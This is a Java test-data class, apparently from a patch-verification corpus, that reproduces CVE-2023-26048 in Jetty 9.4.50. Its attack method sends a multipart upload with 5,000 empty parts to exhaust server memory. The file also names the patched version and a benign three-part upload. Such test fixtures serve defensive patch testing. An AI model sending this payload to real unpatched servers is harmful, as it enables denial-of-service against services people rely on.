package dev.hotpatch.testdata.cve;

import dev.hotpatch.testdata.corpus.MavenArtifact;
import java.io.IOException;
import java.util.List;

/** An upload with any number of parts without content is taken: an object in memory for each. */
public final class JettyParts implements Vulnerability {
    private static final String GROUP = "org.eclipse.jetty";
    private static final String VERSION = "9.4.50.v20221201";
    private static final int PARTS = 5_000;

    @Override
    public String cve() {
        return "CVE-2023-26048";
    }

    @Override
    public VictimProgram program() {
        return new VictimProgram(
                "UploadMain",
                MavenArtifact.jar(GROUP, "jetty-http", VERSION),
                MavenArtifact.jar(GROUP, "jetty-http", "9.4.51.v20230217"),
                List.of(
                        MavenArtifact.jar(GROUP, "jetty-server", VERSION),
                        MavenArtifact.jar(GROUP, "jetty-util", VERSION),
                        MavenArtifact.jar(GROUP, "jetty-io", VERSION),
                        MavenArtifact.jar("javax.servlet", "javax.servlet-api", "3.1.0")),
                List.of());
    }

    @Override
    public Attempt attack(RunningVictim victim) throws IOException, InterruptedException {
        String answer = upload(victim, PARTS);
        return new Attempt(answer.equals("parts=" + PARTS), answer);
    }

    @Override
    public String use(RunningVictim victim) throws IOException, InterruptedException {
        return upload(victim, 3);
    }

    private static String upload(RunningVictim victim, int parts) throws IOException, InterruptedException {
        String part = "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n\r\n";
        return victim.post("multipart/form-data; boundary=x", part.repeat(parts) + "--x--\r\n")
                .text();
    }
}
